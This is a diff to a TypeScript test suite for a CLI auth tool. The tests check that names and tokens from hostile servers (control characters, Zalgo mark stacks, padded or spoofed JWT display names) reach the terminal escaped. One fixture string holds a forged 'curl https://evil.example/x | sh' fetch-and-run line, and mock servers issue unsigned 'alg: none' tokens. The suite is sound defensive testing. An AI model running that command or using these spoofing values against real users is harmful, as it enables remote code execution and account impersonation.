@@ -42,6 +42,8 @@ const ALL = Object.values(PAYLOADS).join('') + INVISIBLES;
 const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
 /** Characters that are not seen or break lines: they must reach the terminal as escapes. */
 const INVISIBLE = /[\p{Cf}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;
+/** More combining marks (Mn, Me) on one base than the writer's bound (MAX_COMBINING_MARKS, 3). */
+const MARK_STACK = /[\p{Mn}\p{Me}]{4}/u;
 /** What a forged code or description would print as a line of its own. */
 const FORGED = '\nLogged in to https://bank.example via https://bank.example\nRun: curl https://evil.example/x | sh\n';
 
@@ -75,8 +77,20 @@ const TOOLS = [
   },
   { name: `bell${PAYLOADS.misc}`, description: `line one\nline two ${PAYLOADS.link}`, inputSchema: { type: 'object' } },
   { name: `zero\u200bwidth${INVISIBLES}`, description: `forged${FORGED}`, inputSchema: { type: 'object' } },
+  // Issue 46 F5: stacked combining marks ("Zalgo") draw over neighbouring columns and lines.
+  { name: `Z${'\u0336'.repeat(8)}`, description: `Bob${'\u0336\u0489\u0334\u0338'.repeat(30)}`, inputSchema: { type: 'object' } },
 ];
 const RESULT_TEXT = `result-text${ALL}end`;
+/**
+ * Display names an AS could give to pass for another account (issue 46 F4): one that carries a
+ * "(sub victim)" of its own, one padded with U+3000 (and NBSP, em space) so that a `sub` printed
+ * after it would be hundreds of columns away, one with a stack of combining marks.
+ */
+const SPOOFING_NAMES: Record<string, string> = {
+  subinname: 'alice (sub 248289761001)',
+  padded: `alice${'\u3000'.repeat(150)}\u00a0\u2003(sub 248289761001)`,
+  zalgo: `Bob${'\u0336\u0489\u0334\u0338'.repeat(30)}`,
+};
 
 /** A stateless MCP endpoint (JSON responses) that needs no authorization. */
 function jsonRpc(body: string) {
@@ -104,6 +118,8 @@ describe('attack: terminal escape sequences from servers through the CLI', () =>
   let crlfAs: Hostile;
   /** An AS that says its token lives 1e300 seconds. */
   let foreverAs: Hostile;
+  /** ASes whose access token (a JWT) names a chosen `sub` and display `name` (issue 46 F4). */
+  const namingAs: Record<string, Hostile> = {};
   let home: string;
   /** Paths the AS was asked for (a refused issuer must be refused before any request). */
   const asked: string[] = [];
@@ -164,6 +180,19 @@ describe('attack: terminal escape sequences from servers through the CLI', () =>
         return { status: 200, body: { access_token: 'tok-s3cret\r\nX-Injected: yes', token_type: 'Bearer', expires_in: 300 } };
       return { status: 404, body: {} };
     });
+    for (const [key, name] of Object.entries(SPOOFING_NAMES)) {
+      namingAs[key] = await serve((path, _body, self) => {
+        if (path.startsWith('/.well-known/')) {
+          return { status: 200, body: { issuer: self, token_endpoint: `${self}/token`, code_challenge_methods_supported: ['S256'] } };
+        }
+        if (path === '/token') {
+          const part = (v: object) => Buffer.from(JSON.stringify(v)).toString('base64url');
+          const jwt = `${part({ alg: 'none' })}.${part({ iss: self, sub: 'mallory-7', name })}.sig`;
+          return { status: 200, body: { access_token: jwt, token_type: 'Bearer', expires_in: 300 } };
+        }
+        return { status: 404, body: {} };
+      });
+    }
     mcp = await serve((path, body, self) => {
       if (path === '/open/mcp') return body ? jsonRpc(body) : { status: 405 };
       const prm = /^\/\.well-known\/oauth-protected-resource(\/.*)$/.exec(path)?.[1];
@@ -181,6 +210,9 @@ describe('attack: terminal escape sequences from servers through the CLI', () =>
       if (prm === '/forged/mcp')
         return { status: 200, body: { resource: `${self}/forged/mcp`, authorization_servers: [`${as.url}/forged`] } };
       if (prm === '/crlf/mcp') return { status: 200, body: { resource: `${self}/crlf/mcp`, authorization_servers: [crlfAs.url] } };
+      const naming = /^\/named-(\w+)\/mcp$/.exec(prm ?? '')?.[1];
+      if (naming && namingAs[naming])
+        return { status: 200, body: { resource: `${self}/named-${naming}/mcp`, authorization_servers: [namingAs[naming].url] } };
       if (prm === '/forever/mcp') return { status: 200, body: { resource: `${self}/forever/mcp`, authorization_servers: [foreverAs.url] } };
       return {
         status: 401,
@@ -191,7 +223,7 @@ describe('attack: terminal escape sequences from servers through the CLI', () =>
     home = await mkdtemp(join(tmpdir(), 'mak-terminal-'));
   });
   afterAll(async () => {
-    for (const h of [mcp, as, crlfAs, foreverAs]) {
+    for (const h of [mcp, as, crlfAs, foreverAs, ...Object.values(namingAs)]) {
       h?.server.closeAllConnections();
       h?.server.close();
     }
@@ -215,6 +247,7 @@ describe('attack: terminal escape sequences from servers through the CLI', () =>
   const clean = (text: string, what: string) => {
     expect(CONTROL.exec(text)?.[0], `${what} carries a control character`).toBeUndefined();
     expect(INVISIBLE.exec(text)?.[0], `${what} carries an invisible or line-breaking character`).toBeUndefined();
+    expect(MARK_STACK.exec(text)?.[0], `${what} carries a stack of combining marks`).toBeUndefined();
   };
   /** No line printed starts with what a forged value tried to print. */
   const noForgedLine = (text: string) => {
@@ -234,6 +267,7 @@ describe('attack: terminal escape sequences from servers through the CLI', () =>
     expect(r.stdout).toContain(
       'zero\\u200bwidth\\u200b\\ufeff\\u00ad\\u2028\\u2029\\u{e0041}\\u3164\\u115f\\ufe0f — forged\\nLogged in to',
     );
+    expect(r.stdout).toContain(`Z${'\u0336'.repeat(3)}${'\\u0336'.repeat(5)} — Bob\u0336\u0489\u0334\\u0338\\u0336`);
     expect(r.stdout.trimEnd().split('\n')).toHaveLength(TOOLS.length);
   });
 
@@ -323,6 +357,36 @@ describe('attack: terminal escape sequences from servers through the CLI', () =>
     expect(year).toBeGreaterThanOrEqual(new Date().getUTCFullYear());
     expect(year).toBeLessThanOrEqual(new Date().getUTCFullYear() + 1);
   });
+
+  it.each([
+    ['subinname', '"alice (sub 248289761001)"'],
+    ['padded', '"alice (sub 248289761001)"'],
+    ['zalgo', '"Bob\u0336\u0489\u0334"'],
+  ])(
+    'login: the signed-in line leads with the AS host and `sub`, the server-chosen name (%s) comes after, quoted and collapsed',
+    async (key, quoted) => {
+      const host = new URL(namingAs[key]!.url).host;
+      const r = await cli([
+        '--client-credentials',
+        '--client-id',
+        'svc',
+        '--issuer',
+        namingAs[key]!.url,
+        'login',
+        `${mcp.url}/named-${key}/mcp`,
+      ]);
+      expect(r.code, r.stderr).toBe(0);
+      clean(r.stdout, 'stdout');
+      clean(r.stderr, 'stderr');
+      const line = r.stdout.split('\n').find((l) => l.startsWith('Signed in'));
+      expect(line).toBe(
+        `Signed in at ${host} as sub mallory-7 (${quoted}): if that is not your account, run \`mcp-auth-kit logout ${mcp.url}/named-${key}/mcp\` now.`,
+      );
+      // The progress line of the library's `authorized` event says the same.
+      expect(r.stderr).toContain(`Authorized at ${host} as sub mallory-7 (${quoted})`);
+      expect(line).not.toMatch(/\u3000|\u00a0|\u2003/);
+    },
+  );
 
   it('login --client-credentials: the token endpoint `error_description` is shown clean', async () => {
     const r = await cli(['--client-credentials', '--client-id', 'svc', '--issuer', as.url, 'login', `${mcp.url}/as/mcp`]);
